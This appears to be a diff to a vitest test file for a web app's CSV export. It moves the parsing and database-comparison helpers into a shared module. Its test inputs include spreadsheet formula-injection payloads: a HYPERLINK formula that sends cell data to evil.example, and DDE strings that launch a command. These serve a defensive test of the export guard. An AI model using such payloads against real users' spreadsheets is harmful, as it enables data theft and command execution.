@@ -1,13 +1,11 @@
 import { mkdtempSync, rmSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
-import { parse } from 'csv-parse/sync';
-import pg from 'pg';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { upsertAdmin } from '../../lib/auth/admin-users';
 import { runBackup } from '../../lib/backup/run-backup';
 import { needsFormulaGuard } from '../../lib/queries/csv-formula-guard';
-import { EXPORTABLE_TABLES, exportColumns } from '../../lib/queries/table-export';
+import { EXPORTABLE_TABLES } from '../../lib/queries/table-export';
 import { seedDemoData } from '../../lib/seed/seed-demo-data';
 import { openStorage } from '../../lib/storage/open-storage';
 import { startAppServer } from '../helpers/app-server';
@@ -15,6 +13,7 @@ import type { AppServer } from '../helpers/app-server';
 import { createTestDatabase, withClient } from '../helpers/db';
 import type { TestDatabase } from '../helpers/db';
 import { readZip } from '../helpers/zip';
+import { compareTable, dbRows as dbRowsAt, parseCsv } from '../helpers/csv-oracle';
 
 const PASSWORD = 'correct horse battery';
 let db: TestDatabase;
@@ -26,62 +25,7 @@ let cookie: string;
 const GUARDED = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(1+9)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1', '-', '+', '=', '@'];
 const UNCHANGED = ['+251911234567', '+251 91 123 4567', '-250', '-1250.75', '+15', '42', 'ሰላም =1+1', 'a@b.et', ' =1+1', ''];
 
-/** Parses CSV text with a real parser; an unquoted empty field is NULL, a quoted one the empty string. */
-function parseCsv(text: string): (string | null)[][] {
-  return parse(text, { bom: true, relax_column_count: false, cast: (value, ctx) => (ctx.quoting ? value : value === '' ? null : value) }) as (string | null)[][];
-}
-
-/** The database's own text for each exported column (all values as PostgreSQL prints them). */
-async function dbRows(table: string, tz: string): Promise<{ columns: string[]; types: Record<string, string>; rows: (string | null)[][] }> {
-  const c = new pg.Client({ connectionString: db.url, types: { getTypeParser: () => (v: string) => v } as unknown as pg.CustomTypesConfig });
-  await c.connect();
-  try {
-    await c.query(`SELECT set_config('TimeZone', $1, false)`, [tz]);
-    await c.query(`SET DateStyle = 'ISO, YMD'; SET extra_float_digits = 3`);
-    const columns = await exportColumns(c, table as (typeof EXPORTABLE_TABLES)[number]);
-    const types = Object.fromEntries(
-      (await c.query(`SELECT column_name, data_type FROM information_schema.columns WHERE table_schema = 'public' AND table_name = $1`, [table])).rows.map((r) => [r.column_name, r.data_type]),
-    );
-    const pk = (await c.query(`SELECT a.attname FROM pg_index i JOIN pg_attribute a ON a.attrelid = i.indrelid AND a.attnum = ANY (i.indkey) WHERE i.indrelid = $1::regclass AND i.indisprimary`, [`public.${table}`])).rows.map((r) => `"${r.attname}"`);
-    const rows = (await c.query({ text: `SELECT ${columns.map((x) => `"${x}"`).join(', ')} FROM public."${table}" ORDER BY ${pk.join(', ')}`, rowMode: 'array' })).rows as (string | null)[][];
-    return { columns, types, rows };
-  } finally {
-    await c.end();
-  }
-}
-
-/** What a spreadsheet-friendly export must hold for a database value (computed independently of the exporter). */
-function expectedCell(v: string | null, type: string): string | null {
-  if (v === null) return null;
-  if (type === 'boolean') return v === 't' ? 'true' : 'false';
-  if (type === 'timestamp with time zone') {
-    // PostgreSQL ISO output '2025-03-01 08:00:00.12+03' → ISO 8601 '2025-03-01T08:00:00.12+03:00'.
-    const m = /^(\d{4}-\d{2}-\d{2}) (\d{2}:\d{2}:\d{2}(?:\.\d+)?)([+-]\d{2})(?::(\d{2}))?$/.exec(v);
-    if (!m) throw new Error(`unexpected timestamp text ${v}`);
-    return `${m[1]}T${m[2]}${m[3]}:${m[4] ?? '00'}`;
-  }
-  return v;
-}
-
-function compareTable(table: string, csv: (string | null)[][], oracle: Awaited<ReturnType<typeof dbRows>>): void {
-  expect(csv[0], table).toEqual(oracle.columns);
-  expect(csv.length - 1, table).toBe(oracle.rows.length);
-  oracle.rows.forEach((row, i) => {
-    row.forEach((v, j) => {
-      const col = oracle.columns[j];
-      const want = expectedCell(v, oracle.types[col]);
-      const got = csv[i + 1][j];
-      if (typeof want === 'string' && /^[=@\t\r+-]/.test(want) && got !== want) {
-        // Guarded: exactly one apostrophe in front, and only for text a spreadsheet would run.
-        expect(got, `${table}.${col} row ${i}`).toBe(`'${want}`);
-        expect(needsFormulaGuard(want), want).toBe(true);
-      } else {
-        expect(got, `${table}.${col} row ${i}`).toBe(want);
-      }
-    });
-  });
-}
-
+const dbRows = (table: string, tz: string) => dbRowsAt(db.url, table, tz);
 const get = (p: string) => fetch(`${app.baseUrl}${p}`, { headers: { cookie } });
 
 beforeAll(async () => {
